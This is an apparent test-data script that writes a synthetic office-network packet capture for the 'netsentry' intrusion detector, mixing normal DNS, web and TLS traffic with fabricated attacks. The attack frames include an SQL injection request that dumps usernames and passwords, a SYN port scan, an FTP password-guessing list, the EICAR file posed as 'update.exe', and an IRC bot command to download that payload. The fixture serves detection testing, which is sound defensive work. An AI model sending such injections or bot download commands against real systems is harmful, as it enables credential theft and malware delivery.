"""Build ``netsentry/data/demo.pcap``, the small capture ``make demo`` analyzes.

A few minutes of a made-up office network, written with dpkt so every byte is
explained here: ordinary DNS, web and TLS traffic next to the things netsentry
exists to find (an SQL injection, a SYN scan, failed FTP logins, random-looking
NXDOMAIN names). Deterministic: running it twice gives identical bytes, and a
test checks the committed file against it.

    python tests/data/make_demo_pcap.py [OUT]
"""

from __future__ import annotations

import struct
import sys
from pathlib import Path

import dpkt

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from tests.factories import (
    ether,
    icmp_echo,
    ip4,
    ipv4,
    ipv6,
    tcp,
    udp,
)

START = 1_793_527_200.0  # 2026-11-01T10:00:00Z
OUT = Path(__file__).resolve().parents[2] / "netsentry" / "data" / "demo.pcap"

SYN, ACK, PSH, FIN, RST = (
    dpkt.tcp.TH_SYN,
    dpkt.tcp.TH_ACK,
    dpkt.tcp.TH_PUSH,
    dpkt.tcp.TH_FIN,
    dpkt.tcp.TH_RST,
)


class Capture:
    """Collects frames with steadily advancing timestamps."""

    def __init__(self) -> None:
        self.records: list[tuple[float, bytes]] = []
        self.now = START

    def add(self, frame: bytes, gap: float = 0.01) -> None:
        self.now += gap
        self.records.append((round(self.now, 6), frame))


def dns_query(name: str, qid: int, qtype: int = dpkt.dns.DNS_A) -> bytes:
    msg = dpkt.dns.DNS(id=qid, op=dpkt.dns.DNS_RD, qd=[dpkt.dns.DNS.Q(name=name, type=qtype)])
    return bytes(msg)


def dns_answer(name: str, qid: int, addr: str | None) -> bytes:
    msg = dpkt.dns.DNS(
        id=qid,
        op=dpkt.dns.DNS_RA | dpkt.dns.DNS_RD | dpkt.dns.DNS_QR,
        rcode=dpkt.dns.DNS_RCODE_NOERR if addr else dpkt.dns.DNS_RCODE_NXDOMAIN,
        qd=[dpkt.dns.DNS.Q(name=name, type=dpkt.dns.DNS_A)],
    )
    if addr:
        msg.an = [dpkt.dns.DNS.RR(name=name, type=dpkt.dns.DNS_A, ttl=300, rdata=ip4(addr))]
    return bytes(msg)


def client_hello(sni: str) -> bytes:
    """A minimal TLS 1.2 ClientHello record carrying an SNI extension."""
    host = sni.encode()
    sni_ext = struct.pack(">HHHBH", 0, len(host) + 5, len(host) + 3, 0, len(host)) + host
    ciphers = struct.pack(">HHHH", 0xC02F, 0xC030, 0x009E, 0x00FF)
    body = (
        b"\x03\x03"
        + bytes(range(32))
        + b"\x00"
        + struct.pack(">H", len(ciphers))
        + ciphers
        + b"\x01\x00"
        + struct.pack(">H", len(sni_ext))
        + sni_ext
    )
    handshake = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack(">H", len(handshake)) + handshake


def tcp_session(
    cap: Capture, client: str, server: str, cport: int, sport: int, request: bytes, reply: bytes
) -> None:
    """Handshake, one request, one reply, orderly close."""
    c, s = 1000, 5000
    cap.add(ether(ipv4(tcp(cport, sport, flags=SYN, seq=c, ack=0), client, server)))
    cap.add(ether(ipv4(tcp(sport, cport, flags=SYN | ACK, seq=s, ack=c + 1), server, client)))
    cap.add(ether(ipv4(tcp(cport, sport, flags=ACK, seq=c + 1, ack=s + 1), client, server)))
    cap.add(ether(ipv4(tcp(cport, sport, request, seq=c + 1, ack=s + 1), client, server)))
    cap.add(
        ether(ipv4(tcp(sport, cport, reply, seq=s + 1, ack=c + 1 + len(request)), server, client))
    )
    c2, s2 = c + 1 + len(request), s + 1 + len(reply)
    cap.add(ether(ipv4(tcp(cport, sport, flags=FIN | ACK, seq=c2, ack=s2), client, server)))
    cap.add(ether(ipv4(tcp(sport, cport, flags=FIN | ACK, seq=s2, ack=c2 + 1), server, client)))
    cap.add(ether(ipv4(tcp(cport, sport, flags=ACK, seq=c2 + 1, ack=s2 + 1), client, server)))


def arp(op: int, sender: str, target: str) -> bytes:
    body = struct.pack(">HHBBH", 1, 0x0800, 6, 4, op) + b"\x00\x11\x22\x33\x44\x55" + ip4(sender)
    body += b"\x00" * 6 + ip4(target)
    return ether(body, ethertype=0x0806)


def build() -> list[tuple[float, bytes]]:
    """Every frame of the demo, in order."""
    cap = Capture()
    laptop, resolver, attacker, web = "192.168.1.10", "192.168.1.1", "192.168.1.66", "192.168.1.20"
    cap.add(arp(1, laptop, resolver))
    cap.add(arp(2, resolver, laptop))
    cap.add(ether(ipv4(udp(53001, 53, dns_query("www.example.com", 1)), laptop, resolver)))
    cap.add(
        ether(
            ipv4(
                udp(53, 53001, dns_answer("www.example.com", 1, "93.184.216.34")), resolver, laptop
            )
        )
    )
    page = (
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 20\r\n\r\n"
        b"<html>hello</html>\r\n"
    )
    tcp_session(
        cap,
        laptop,
        "93.184.216.34",
        50100,
        80,
        b"GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: demo-browser/1.0\r\n\r\n",
        page,
    )
    cap.add(ether(ipv4(udp(53002, 53, dns_query("login.example.net", 2)), laptop, resolver)))
    cap.add(
        ether(
            ipv4(
                udp(53, 53002, dns_answer("login.example.net", 2, "198.51.100.7")), resolver, laptop
            )
        )
    )
    tcp_session(
        cap,
        laptop,
        "198.51.100.7",
        50101,
        443,
        client_hello("login.example.net"),
        b"\x15\x03\x03\x00\x02\x02\x28",
    )
    cap.add(ether(ipv4(icmp_echo(b"abcdefgh"), laptop, resolver)))
    reply = dpkt.icmp.ICMP(type=0, code=0, data=dpkt.icmp.ICMP.Echo(id=1, seq=1, data=b"abcdefgh"))
    cap.add(ether(ipv4(reply, resolver, laptop)))
    # Random-looking names answered NXDOMAIN: what a DGA-infected host produces.
    for i, name in enumerate(["xk2qj9vbz0lmpw.info", "q8rtz1nn4kd7ya.biz", "mzv0p3l9xq2jhc.top"]):
        cap.add(ether(ipv4(udp(53100 + i, 53, dns_query(name, 10 + i)), laptop, resolver)), 0.3)
        cap.add(ether(ipv4(udp(53, 53100 + i, dns_answer(name, 10 + i, None)), resolver, laptop)))
    # An SQL injection against the intranet web server.
    attack = (
        b"GET /products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"
        b" HTTP/1.1\r\n"
        b"Host: intranet.local\r\nUser-Agent: sqlmap/1.7.12#stable (https://sqlmap.org)\r\n\r\n"
    )
    tcp_session(
        cap, attacker, web, 41000, 80, attack, b"HTTP/1.1 500 Internal Server Error\r\n\r\n"
    )
    # A SYN scan of the web server's low ports, answered by resets.
    for port in range(20, 80):
        cap.add(ether(ipv4(tcp(41500, port, flags=SYN, seq=7, ack=0), attacker, web)), 0.002)
        cap.add(ether(ipv4(tcp(port, 41500, flags=RST | ACK, seq=0, ack=8), web, attacker)), 0.001)
    # Failed FTP logins.
    passwords = [
        b"123456",
        b"password",
        b"admin",
        b"letmein",
        b"qwerty",
        b"welcome",
        b"monkey",
        b"dragon",
        b"master",
        b"shadow",
        b"111111",
        b"abc123",
    ]
    for attempt, password in enumerate(passwords):
        cport = 42000 + attempt
        request = b"USER admin\r\nPASS " + password + b"\r\n"
        tcp_session(cap, attacker, web, cport, 21, request, b"530 Login incorrect.\r\n")
    # A download of the EICAR antivirus test file (stands in for a malware payload).
    eicar = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    tcp_session(
        cap,
        laptop,
        "203.0.113.66",
        50200,
        80,
        b"GET /update.exe HTTP/1.1\r\nHost: updates.example.net\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: "
        + str(len(eicar)).encode()
        + b"\r\n\r\n"
        + eicar,
    )
    # An IRC bot receiving a command in its channel topic.
    tcp_session(
        cap,
        laptop,
        "198.51.100.99",
        50300,
        6667,
        b"NICK bot-4711\r\nUSER bot 0 * :bot\r\nJOIN #cmd\r\n",
        b":irc.example.net 332 bot-4711 #cmd :.download http://203.0.113.66/update.exe\r\n",
    )
    # IPv6 DNS over a VLAN-tagged link.
    v6q = ipv6(
        udp(53200, 53, dns_query("www.example.org", 30, dpkt.dns.DNS_AAAA)),
        "2001:db8:1::10",
        "2001:db8:1::1",
    )
    cap.add(ether(v6q, ethertype=0x86DD, vlans=[100]))
    # A UDP datagram in two IPv4 fragments.
    datagram = bytes(udp(40000, 9999, b"F" * 40))
    cap.add(ether(ipv4_fragment(datagram[:24], laptop, resolver, 77, 0, more=True)))
    cap.add(ether(ipv4_fragment(datagram[24:], laptop, resolver, 77, 24, more=False)))
    return cap.records


def ipv4_fragment(piece: bytes, src: str, dst: str, ident: int, offset: int, more: bool) -> bytes:
    """One IPv4 fragment of a UDP datagram (offset in bytes, a multiple of 8)."""
    flags = (0x2000 if more else 0) | (offset >> 3)
    header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(piece), ident, flags, 64, 17, 0)
    return header + ip4(src) + ip4(dst) + piece


def write(out: Path = OUT) -> Path:
    """Write the demo capture (classic pcap, Ethernet, microseconds)."""
    out.parent.mkdir(parents=True, exist_ok=True)
    with out.open("wb") as f:
        writer = dpkt.pcap.Writer(f, snaplen=65535)
        for ts, frame in build():
            writer.writepkt(frame, ts=ts)
    return out


if __name__ == "__main__":
    print(write(Path(sys.argv[1]) if len(sys.argv) > 1 else OUT))
